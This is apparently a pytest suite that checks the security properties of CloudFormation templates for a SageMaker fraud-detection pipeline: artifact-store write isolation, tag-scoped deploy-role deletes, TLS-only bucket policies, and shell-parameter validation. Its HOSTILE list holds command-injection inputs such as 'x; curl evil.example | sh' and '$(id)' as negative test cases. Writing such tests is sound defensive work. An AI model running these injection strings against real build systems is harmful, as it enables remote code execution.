"""What the templates let go wrong: no job can change what prod deploys while it waits for approval, the deploy
role touches only the project's models and endpoint configurations, every bucket refuses plain HTTP, and no
parameter reaches a shell line unchecked. Templates are read with cfn-lint's loader (intrinsics as data) and
the roles through the IAM evaluator of test_iam_fits_configs."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any, Iterator

import pytest

from pipelines.loader import load_pipeline
from pipelines.sagemaker.endpoint_params import endpoint_parameters
from tests.conftest import REPO
from tests.sagemaker.test_iam_fits_configs import _listed, stack

TEMPLATES = sorted((REPO / "infra").glob("*.yaml"))
WRITES = ("s3:PutObject", "s3:DeleteObject", "s3:DeleteObjectVersion", "s3:PutObjectAcl", "s3:RestoreObject")
PACKAGE = "arn:aws:sagemaker:us-east-1:444455556666:model-package/fraud-detection/3"
TAG = "sagepipe:endpoint"


def _load(template: Path) -> dict[str, Any]:
    from cfnlint.decode import cfn_yaml

    return cfn_yaml.load(str(template))


def _ref(node: Any) -> str | None:
    """The logical id a {"Ref": X} or {"Fn::GetAtt": [X, "Arn"]} names."""
    if isinstance(node, dict) and set(node) == {"Ref"}:
        return node["Ref"]
    if isinstance(node, dict) and set(node) == {"Fn::GetAtt"}:
        target = node["Fn::GetAtt"]
        return (target if isinstance(target, list) else target.split("."))[0]
    return None


def _policies_of(template: dict[str, Any], bucket: str) -> list[dict[str, Any]]:
    return [r["Properties"]["PolicyDocument"] for r in template["Resources"].values()
            if r["Type"] == "AWS::S3::BucketPolicy" and _ref(r["Properties"]["Bucket"]) == bucket]


def _covers_bucket_and_objects(statement: dict[str, Any], bucket: str) -> bool:
    resources = _listed(statement["Resource"])
    whole = any(_ref(r) == bucket for r in resources)
    objects = any(isinstance(r, dict) and "Fn::Sub" in r and r["Fn::Sub"] == f"${{{bucket}.Arn}}/*" for r in resources)
    return whole and objects


# --- (a) what prod deploys lies where no job can write -------------------------------------------------
def _artifact_stores() -> set[str]:
    resources = stack().resources()
    return {_ref(r["Properties"]["ArtifactStore"]["Location"]) for r in resources.values()
            if r["Type"] == "AWS::CodePipeline::Pipeline"}


def test_codepipelines_artifact_store_is_not_the_bucket_jobs_write() -> None:
    stores = _artifact_stores()
    assert stores == {"PipelineArtifactBucket"}, stores
    assert stack().resources()["PipelineArtifactBucket"]["Type"] == "AWS::S3::Bucket"
    assert "ArtifactBucket" not in stores  # the env's sagemaker.bucket: compile's uploads and the jobs' outputs


def test_the_execution_role_cannot_write_the_pipeline_artifact_store() -> None:
    s = stack()
    arn = s.attribute("PipelineArtifactBucket", "Arn")
    for action in WRITES:
        for resource in (arn, f"{arn}/fraud-detection-mod/Endpoint/abc123.zip"):
            assert not s.allows("SageMakerExecutionRole", action, resource), (action, resource)
    # those that must write it still may: CodePipeline and CodeBuild (the build's and prepare's outputs)
    for role in ("CodePipelineRole", "CodeBuildRole"):
        assert s.allows(role, "s3:PutObject", f"{arn}/fraud-detection-mod/Endpoint/abc123.zip"), role
    # and the jobs still write their own bucket
    assert s.allows("SageMakerExecutionRole", "s3:PutObject", f"{s.attribute('ArtifactBucket', 'Arn')}/x/y")


def test_the_store_denies_the_execution_role_whatever_its_policies_grant() -> None:
    """Defence in depth: a policy attached to the role later cannot reopen the store."""
    template = _load(REPO / "infra" / "cicd.yaml")
    denies = [st for doc in _policies_of(template, "PipelineArtifactBucket") for st in doc["Statement"]
              if st["Effect"] == "Deny" and "ArnEquals" in st.get("Condition", {})]
    assert denies, "no Deny for the execution role in PipelineArtifactBucket's policy"
    (deny,) = denies
    assert deny["Principal"] == "*" and _covers_bucket_and_objects(deny, "PipelineArtifactBucket")
    assert _ref(deny["Condition"]["ArnEquals"]["aws:PrincipalArn"]) == "SageMakerExecutionRole"
    assert {"s3:PutObject", "s3:DeleteObject", "s3:DeleteObjectVersion"} <= set(_listed(deny["Action"]))


def test_no_role_of_the_jobs_deletes_objects() -> None:
    for statement in stack().statements("SageMakerExecutionRole"):
        actions = _listed(statement["Action"])
        assert not [a for a in actions if a in ("s3:*", "*") or a.startswith("s3:Delete")], statement


# --- (b) the deploy role: the project's models and endpoint configurations only -------------------------
def _arn(kind: str, name: str) -> str:
    return f"arn:aws:sagemaker:{stack().region}:{stack().account}:{kind}/{name}"


@pytest.mark.parametrize("kind", ["model", "endpoint-config"])
def test_the_deploy_role_deletes_only_what_carries_the_projects_tag(kind: str) -> None:
    s, action = stack(), "sagemaker:DeleteModel" if kind == "model" else "sagemaker:DeleteEndpointConfig"
    ours = {f"aws:ResourceTag/{TAG}": "fraud-detection-prod"}
    assert s.allows("CloudFormationRole", action, _arn(kind, "Model-AbCdEf123456"), ours)
    for foreign in ({}, {f"aws:ResourceTag/{TAG}": "another-team-prod"}, {"aws:ResourceTag/team": "fraud-detection-x"}):
        assert not s.allows("CloudFormationRole", action, _arn(kind, "their-model"), foreign), foreign


@pytest.mark.parametrize("kind", ["model", "endpoint-config"])
def test_the_deploy_role_cannot_tag_anothers_model_to_delete_it(kind: str) -> None:
    s, tags = stack(), {f"aws:RequestTag/{TAG}": "fraud-detection-prod"}
    assert not s.allows("CloudFormationRole", "sagemaker:AddTags", _arn(kind, "their-model"), tags)
    create = "CreateModel" if kind == "model" else "CreateEndpointConfig"
    assert s.allows("CloudFormationRole", "sagemaker:AddTags", _arn(kind, "new"), {"sagemaker:TaggingAction": create})
    assert s.allows("CloudFormationRole", f"sagemaker:{create}", _arn(kind, "new"), tags)
    assert not s.allows("CloudFormationRole", f"sagemaker:{create}", _arn(kind, "new"))  # untagged: refused


def test_no_deploy_statement_deletes_a_model_or_configuration_without_a_condition() -> None:
    for statement in stack().statements("CloudFormationRole"):
        deletes = [a for a in _listed(statement["Action"]) if re.fullmatch(r"sagemaker:(Delete\w+|AddTags|\*)", a)]
        unscoped = [r for r in _listed(statement["Resource"]) if re.search(r":(model|endpoint-config)/\*$", r)]
        if deletes and unscoped:
            assert statement.get("Condition"), statement


@pytest.mark.parametrize("env", ["dev", "staging", "prod"])
def test_the_endpoint_template_tags_what_the_deploy_role_may_delete(env: str) -> None:
    endpoint = _load(REPO / "infra" / "endpoint.yaml")["Resources"]
    for logical in ("Model", "EndpointConfig"):
        tags = {t["Key"]: t["Value"] for t in endpoint[logical]["Properties"]["Tags"]}
        assert tags == {TAG: {"Ref": "EndpointName"}}, logical
    name = endpoint_parameters(load_pipeline(REPO / "configs" / "fraud-detection.yaml", env), PACKAGE)[
        "Parameters"]["EndpointName"]
    assert stack().allows("CloudFormationRole", "sagemaker:DeleteModel", _arn("model", "m"),
                          {f"aws:ResourceTag/{TAG}": name}), name


# --- (c) every bucket refuses requests without TLS -----------------------------------------------------
def _buckets() -> Iterator[tuple[Path, dict[str, Any], str]]:
    for template in TEMPLATES:
        body = _load(template)
        for logical, resource in body.get("Resources", {}).items():
            if resource["Type"] == "AWS::S3::Bucket":
                yield template, body, logical


def test_the_templates_hold_buckets() -> None:
    assert {logical for _, _, logical in _buckets()} >= {"ArtifactBucket", "PipelineArtifactBucket"}


@pytest.mark.parametrize("template, body, bucket", list(_buckets()), ids=lambda v: v if isinstance(v, str) else "")
def test_every_bucket_denies_requests_without_tls(template: Path, body: dict, bucket: str) -> None:
    denies = [st for doc in _policies_of(body, bucket) for st in doc["Statement"]
              if st["Effect"] == "Deny" and st.get("Condition", {}).get("Bool", {}).get("aws:SecureTransport")
              in ("false", False)]
    assert denies, f"{template.name}: {bucket} has no bucket policy denying aws:SecureTransport false"
    (deny,) = denies
    assert deny["Principal"] == "*" and _listed(deny["Action"]) == ["s3:*"], deny
    assert _covers_bucket_and_objects(deny, bucket), deny


# --- (d) no parameter reaches a shell line unchecked ---------------------------------------------------
HOSTILE = ["x; curl evil.example | sh", "$(id)", "`id`", "a b", "x'y", 'x"y', "x|y", "x&y", "x\ny", "x>y", "../x",
           "x\\y", "${HOME}"]


def _shell_parameters(template: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """(resource, parameter) for each template parameter substituted into a BuildSpec."""
    for logical, resource in template.get("Resources", {}).items():
        spec = (resource.get("Properties", {}).get("Source") or {}).get("BuildSpec")
        if isinstance(spec, dict) and "Fn::Sub" in spec:
            text = spec["Fn::Sub"] if isinstance(spec["Fn::Sub"], str) else spec["Fn::Sub"][0]
            for name in re.findall(r"\$\{([^}!]+)\}", text):
                if not name.startswith("AWS::"):
                    yield logical, name


def test_the_smoke_test_substitutes_a_parameter_so_the_check_below_is_not_vacuous() -> None:
    assert ("SmokeTestProject", "ModelPackageGroupName") in set(_shell_parameters(_load(REPO / "infra" / "cicd.yaml")))


@pytest.mark.parametrize("template", TEMPLATES, ids=[t.name for t in TEMPLATES])
def test_every_parameter_in_a_shell_line_has_a_pattern_that_refuses_shell_syntax(template: Path) -> None:
    body = _load(template)
    for logical, name in _shell_parameters(body):
        declared = body["Parameters"][name]
        pattern = declared.get("AllowedPattern")
        assert pattern, f"{template.name}: {logical} puts parameter {name} into a shell line with no AllowedPattern"
        assert re.fullmatch(pattern, str(declared["Default"])), (name, declared["Default"])
        admitted = [h for h in HOSTILE if re.fullmatch(pattern, h)]
        assert not admitted, (name, admitted)


def test_the_smoke_test_line_quotes_what_it_substitutes() -> None:
    spec = _load(REPO / "infra" / "cicd.yaml")["Resources"]["SmokeTestProject"]["Properties"]["Source"]["BuildSpec"]
    line = next(x for x in spec["Fn::Sub"].splitlines() if "smoke_test.py" in x)
    assert all(f'"{m}' in line or re.search(rf'"[^"]*{re.escape(m)}[^"]*"', line)
               for m in re.findall(r"\$\{[^}]+\}", line)), line


def test_the_endpoint_group_leaves_room_for_the_stage_suffix() -> None:
    declared = _load(REPO / "infra" / "cicd.yaml")["Parameters"]["ModelPackageGroupName"]
    assert declared["MaxLength"] + len("-staging") <= 63  # an endpoint name's limit
